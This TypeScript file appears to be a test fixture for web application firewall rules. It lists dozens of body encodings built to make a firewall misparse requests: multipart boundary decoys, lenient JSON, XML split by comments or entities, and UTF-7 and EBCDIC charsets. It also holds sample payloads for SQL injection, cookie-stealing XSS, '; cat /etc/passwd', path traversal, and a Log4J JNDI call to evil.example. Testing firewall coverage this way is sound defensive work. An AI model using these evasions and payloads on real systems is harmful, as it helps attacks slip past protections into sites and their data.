/** Ways to write a body so that a firewall takes it for something else than the application does. */

/** A body with a text somewhere in it. */
export interface TrickBody {
  readonly contentTypes: readonly string[];
  readonly body: Buffer;
}

const FORM = "application/x-www-form-urlencoded";
const JSON_TYPE = "application/json";
const MULTIPART = "multipart/form-data; boundary=B";
const XML = "text/xml";
const DECLARATION = '<?xml version="1.0"?>';
/** A part of another boundary, so that the first line tells nothing. */
const DECOY = "--Z\r\nX-A: b\r\n\r\n";
const FIELD = 'Content-Disposition: form-data; name="q"';

const form = (text: string): string => encodeURIComponent(text).replaceAll("'", "%27");
const xml = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
const part = (text: string, ...head: readonly string[]): string =>
  `--B\r\n${head.map((line) => `${line}\r\n`).join("")}\r\n${text}\r\n--B--\r\n`;
const hexEach = (text: string, before: string): string =>
  [...Buffer.from(text)].map((byte) => before + byte.toString(16).toUpperCase().padStart(2, "0")).join("");
const utf16be = (text: string): Buffer => Buffer.from(text, "utf16le").swap16();
const utf32le = (text: string): Buffer =>
  Buffer.concat(
    [...text].map((char) => {
      const unit = Buffer.alloc(4);
      unit.writeUInt32LE(char.codePointAt(0)!);
      return unit;
    }),
  );
/** UTF-7 that begins with a euro sign, so that it does not begin as encoded ASCII does. */
const utf7 = (text: string): string => `+${utf16be(`\u20ac ${text}`).toString("base64").replace(/=+$/, "")}-`;

const EBCDIC_SIGNS: Readonly<Record<string, number>> = {
  ...{ " ": 0x40, "'": 0x7d, "=": 0x7e, "-": 0x60, '"': 0x7f, "<": 0x4c, ">": 0x6e, "(": 0x4d, ")": 0x5d },
  ...{
    "/": 0x61,
    ".": 0x4b,
    ";": 0x5e,
    $: 0x5b,
    "{": 0xc0,
    "}": 0xd0,
    ":": 0x7a,
    "?": 0x6f,
    "&": 0x50,
    ",": 0x6b,
  },
};
function ebcdic(text: string): Buffer {
  const letters = ["abcdefghi", "jklmnopqr", " stuvwxyz"];
  const codeOf = (char: string): number => {
    if (/\d/.test(char)) return 0xf0 + Number(char);
    const row = letters.findIndex((each) => each.includes(char.toLowerCase()) && char !== " ");
    if (row < 0) return EBCDIC_SIGNS[char] ?? 0x6f;
    const isUpper = char !== char.toLowerCase();
    return (isUpper ? 0xc1 : 0x81) + 16 * row + letters[row]!.indexOf(char.toLowerCase());
  };
  return Buffer.from([...text].map(codeOf));
}

type Trick = (text: string) => readonly [contentType: string | readonly string[], body: string | Buffer];

const FORMS: Readonly<Record<string, Trick>> = {
  "a plain form": (text) => [FORM, `q=${form(text)}`],
  "a form that begins as XML": (text) => [FORM, `<?xml=1&q=${form(text)}`],
  "a form that begins as a tag": (text) => [FORM, `<a=1&q=${form(text)}`],
  "a form that begins as JSON": (text) => [FORM, `{=1&q=${form(text)}`],
  "a form that begins with JSON": (text) => [FORM, `{"a":1}&q=${form(text)}`],
  "a form within a string of JSON": (text) => [
    FORM,
    `{"a":"&${new URLSearchParams({ q: text }).toString()}&b="}`,
  ],
  "a form that looks like multipart": (text) => [FORM, `--x\r\nfilename=\r\n\r\n\x01=1&q=${form(text)}`],
  "a form behind another content type": (text) => [[JSON_TYPE, FORM], `{"a":1}&q=${form(text)}`],
  "a form of two thousand pairs": (text) => [FORM, `${"a=1&".repeat(1500)}q=${form(text)}`],
  "a form that says it is XML": (text) => [XML, `<a=1&q=${form(text)}`],
};

const DOCUMENTS: Readonly<Record<string, Trick>> = {
  "plain JSON": (text) => [JSON_TYPE, JSON.stringify({ q: text })],
  "JSON behind blanks": (text) => [JSON_TYPE, `${" ".repeat(65)}${JSON.stringify({ q: text })}`],
  "JSON behind a byte order mark": (text) => [JSON_TYPE, `\ufeff${JSON.stringify({ q: text })}`],
  "JSON behind a comment": (text) => [JSON_TYPE, `/* " */${JSON.stringify({ q: text })}`],
  "JSON behind a prefix": (text) => [JSON_TYPE, `)]}',\n${JSON.stringify({ q: text })}`],
  "JSON with NaN": (text) => [JSON_TYPE, `{"a":NaN,"q":${JSON.stringify(text)}}`],
  "JSON with a name without quotes": (text) => [JSON_TYPE, `{a:1,q:${JSON.stringify(text)}}`],
  "JSON with a comment": (text) => [JSON_TYPE, `{/*"*/"q":${JSON.stringify(text)}}`],
  "JSON in single quotes": (text) => [JSON_TYPE, `{'q':'${text.replace(/['\\]/g, "\\$&")}'}`],
  "the second of two JSON documents": (text) => [JSON_TYPE, `{"a":1}${JSON.stringify({ q: text })}`],
  "JSON of lines": (text) => ["application/x-ndjson", `{"a":1}\n${JSON.stringify({ q: text })}\n`],
  "JSON deeper than most": (text) => [
    JSON_TYPE,
    `${"[".repeat(300)}${JSON.stringify(text)}${"]".repeat(300)}`,
  ],
  "lenient JSON within JSON": (text) => [
    JSON_TYPE,
    JSON.stringify({ a: `{"b":NaN,"q":${JSON.stringify(text)}}` }),
  ],
  "plain XML": (text) => [XML, `${DECLARATION}<a>${xml(text)}</a>`],
  "an attribute of XML": (text) => [XML, `${DECLARATION}<a b="${xml(text).replaceAll('"', "&quot;")}"/>`],
  "a CDATA section": (text) => [XML, `${DECLARATION}<a><![CDATA[${text}]]></a>`],
  "CDATA sections of a letter": (text) => [
    XML,
    `${DECLARATION}<a>${[...text].map((char) => `<![CDATA[${char}]]>`).join("")}</a>`,
  ],
  "XML with comments between letters": (text) => [
    XML,
    `${DECLARATION}<a>${[...text].map((char) => xml(char)).join("<!---->")}</a>`,
  ],
  "XML with instructions between letters": (text) => [
    XML,
    `${DECLARATION}<a>${[...text].map((char) => xml(char)).join("<?p ?>")}</a>`,
  ],
  "XML with elements between letters": (text) => [
    XML,
    `${DECLARATION}<a>${[...text].map((char) => xml(char)).join("<b/>")}</a>`,
  ],
  "XML with entities of its own": (text) => [
    XML,
    `${DECLARATION}<!DOCTYPE a [${[...text].map((char, i) => `<!ENTITY e${i} "&#${char.codePointAt(0)};">`).join("")}]>` +
      `<a>${[...text].map((_, i) => `&e${i};`).join("")}</a>`,
  ],
  "a comment of XML": (text) => [XML, `${DECLARATION}<a><!--${text}--></a>`],
};

const PARTS: Readonly<Record<string, Trick>> = {
  "plain multipart": (text) => [MULTIPART, part(text, FIELD)],
  "a field with filename= elsewhere": (text) => [MULTIPART, part(`\x01${text}`, FIELD, "X-A: filename=a")],
  "a file with one control byte": (text) => [MULTIPART, part(`\0${text}\x01`, `${FIELD}; filename="a"`)],
  "a file that begins as a picture": (text) => [
    MULTIPART,
    part(`GIF89a;${text}`, `${FIELD}; filename="a.gif"`),
  ],
  "text in a picture": (text) => [
    MULTIPART,
    part(
      `\x89PNG\r\n\x1a\n${"\0\x01\x02".repeat(200)}\0${" ".repeat(12)}${text}\0`,
      `${FIELD}; filename="a.png"`,
    ),
  ],
  "a file name": (text) => [MULTIPART, part("x", `${FIELD}; filename="${text.replace(/["\\]/g, "\\$&")}"`)],
  "an encoded file name": (text) => [
    MULTIPART,
    part("x", `${FIELD}; filename="a"; filename*=utf-8''${form(text)}`),
  ],
  "a file name in pieces": (text) => [
    MULTIPART,
    part("x", `${FIELD}; filename*0*=utf-8''${form(text.slice(0, 5))}; filename*1*=${form(text.slice(5))}`),
  ],
  "a second file name": (text) => [
    MULTIPART,
    part("x", `${FIELD}; filename="a"; filename="${text.replace(/["\\]/g, "\\$&")}"`),
  ],
  "a file name behind an escaped quote": (text) => [
    MULTIPART,
    part("x", `${FIELD}; filename="a\\"${text.replaceAll('"', '\\"')}"`),
  ],
  "a field's name": (text) => [
    MULTIPART,
    part("x", `Content-Disposition: form-data; name="${text.replaceAll('"', "%22")}"`),
  ],
  "a part's content type": (text) => [
    MULTIPART,
    part("x", `${FIELD}; filename="a"`, `Content-Type: ${text}`),
  ],
  "another header of a part": (text) => [MULTIPART, part("x", FIELD, `X-Note: ${text}`)],
  "a folded header of a part": (text) => [MULTIPART, part("x", FIELD, `X-Note:\r\n ${text}`)],
  "quoted-printable": (text) => [
    MULTIPART,
    part(hexEach(text, "="), FIELD, "Content-Transfer-Encoding: quoted-printable"),
  ],
  base64: (text) => [
    MULTIPART,
    part(Buffer.from(text).toString("base64"), FIELD, "Content-Transfer-Encoding: base64"),
  ],
  "a part in UTF-16": (text) => [
    MULTIPART,
    Buffer.concat([
      Buffer.from(`--B\r\n${FIELD}\r\nContent-Type: text/plain; charset=utf-16le\r\n\r\n`),
      Buffer.from(text, "utf16le"),
      Buffer.from("\r\n--B--\r\n"),
    ]),
  ],
  "multipart within multipart": (text) => [
    "multipart/form-data; boundary=C",
    `--C\r\nContent-Type: ${MULTIPART}\r\n\r\n${part(text, FIELD)}\r\n--C--\r\n`,
  ],
  "a decoy of a boundary": (text) => [
    "multipart/form-data; xboundary=A; boundary=B",
    `--A\r\nfilename=a\r\n\r\n\x01\r\n${part(text, FIELD)}`,
  ],
  "a boundary with a backslash": (text) => [
    'multipart/form-data; boundary="B\\C"',
    `<?xml\r\n--BC\r\n${FIELD}\r\n\r\n${text}\r\n--BC--\r\n`,
  ],
  "the second of two boundaries": (text) => [
    "multipart/form-data; boundary=A; boundary=B",
    `--A\r\n\r\n${part(text, FIELD)}--A--\r\n`,
  ],
  "a boundary in another parameter's name": (text) => [
    "multipart/form-data; xboundary=B; boundary=A",
    `${DECOY}--A\r\n\r\nx\r\n${part(text, FIELD)}--A--\r\n`,
  ],
  "the last of many boundaries": (text) => [
    `multipart/form-data; ${[..."1234567"].map((name) => `boundary=${name}; `).join("")}boundary=B`,
    `${DECOY}${[..."1234567"].map((name) => `--${name}\r\n`).join("")}${part(text, FIELD)}`,
  ],
  "a boundary and a comma": (text) => ["multipart/form-data; boundary=B, a", `${DECOY}${part(text, FIELD)}`],
  "a boundary that ends in blanks": (text) => [
    'multipart/form-data; boundary="B  "',
    `${DECOY}${part(text, FIELD)}`,
  ],
  "an encoded boundary": (text) => [
    "multipart/form-data; boundary*=utf-8''%42",
    `${DECOY}${part(text, FIELD)}`,
  ],
  "a boundary with spaces around its sign": (text) => [
    "multipart/form-data; boundary = B",
    `${DECOY}${part(text, FIELD)}`,
  ],
  "a boundary that is not the one declared": (text) => ["multipart/form-data; boundary=C", part(text, FIELD)],
  "a boundary within a line": (text) => [MULTIPART, part(`x--B filename=\r\n\r\n\x01${text}`, FIELD)],
  "line feeds alone": (text) => [MULTIPART, part(text, FIELD).replaceAll("\r\n", "\n")],
  "the last of 300 parts": (text) => [MULTIPART, `${"--B\r\n\r\n\r\n".repeat(300)}${part(text, FIELD)}`],
  "a part that does not end": (text) => [MULTIPART, `--B\r\n${FIELD}\r\n\r\n${text}`],
  "what precedes the first boundary": (text) => [MULTIPART, `${text}\r\n${part("x", FIELD)}`],
  "what follows the last boundary": (text) => [MULTIPART, `${part("x", FIELD)}${text}`],
};

const json = (text: string): string => JSON.stringify({ q: text });
const CHARSETS: Readonly<Record<string, Trick>> = {
  "JSON in UTF-16": (text) => [`${JSON_TYPE}; charset=utf-16le`, Buffer.from(json(text), "utf16le")],
  "JSON in UTF-16, undeclared": (text) => [JSON_TYPE, utf16be(json(text))],
  "JSON in UTF-16 behind a byte order mark": (text) => [JSON_TYPE, utf16be(`\ufeff${json(text)}`)],
  "JSON in UTF-32": (text) => [`${JSON_TYPE}; charset="utf-32"`, utf32le(json(text))],
  "JSON in UTF-7": (text) => [
    `${JSON_TYPE}; charset=utf-7`,
    `{"q":"${utf7(JSON.stringify(text).slice(1, -1))}"}`,
  ],
  "a form in EBCDIC": (text) => [`${FORM}; charset=ibm037`, ebcdic(`q=${text}`)],
  "XML in EBCDIC": (text) => ["application/xml", ebcdic(`<?xml version="1.0"?><a>${xml(text)}</a>`)],
  "XML that declares UTF-7": (text) => [
    "application/xml",
    `<?xml version="1.0" encoding="utf-7"?><a>${utf7(xml(text))}</a>`,
  ],
  "JSON in ISO-2022-JP with escapes between letters": (text) => [
    `${JSON_TYPE}; charset=iso-2022-jp`,
    `{"q":"${JSON.stringify(text)
      .slice(1, -1)
      .replace(/\w(?=\w)/g, "$&\x1b(B")}"}`,
  ],
};

/** Every trick, by what it is. The plain ones show that the text is seen where nothing hides it. */
export const BODY_TRICKS: ReadonlyMap<string, (text: string) => TrickBody> = new Map(
  Object.entries({ ...FORMS, ...DOCUMENTS, ...PARTS, ...CHARSETS }).map(([name, trick]) => [
    name,
    (text) => {
      const [contentType, body] = trick(text);
      return {
        contentTypes: typeof contentType === "string" ? [contentType] : contentType,
        body: typeof body === "string" ? Buffer.from(body) : body,
      };
    },
  ]),
);

/** One attack of each class, and the rule's prefix that must see it. */
export const PLANTED: readonly (readonly [rule: string, text: string])[] = [
  ["SQLi_", "1' or 'a'='a' -- "],
  ["CrossSiteScripting_", '"><script>alert(document.cookie)</script>'],
  ["UNIXShellCommandsVariables_", "; cat /etc/passwd"],
  ["GenericLFI_", "../../../etc/passwd"],
  ["Log4JRCE_", "${jndi:ldap://evil.example/a}"],
];

/** An attack by its beginning: it is none where other text precedes it. */
export const ANCHORED = ["SQLi_", "1 or 1=1"] as const;

export const HARMLESS = "Blue shirt, size M";
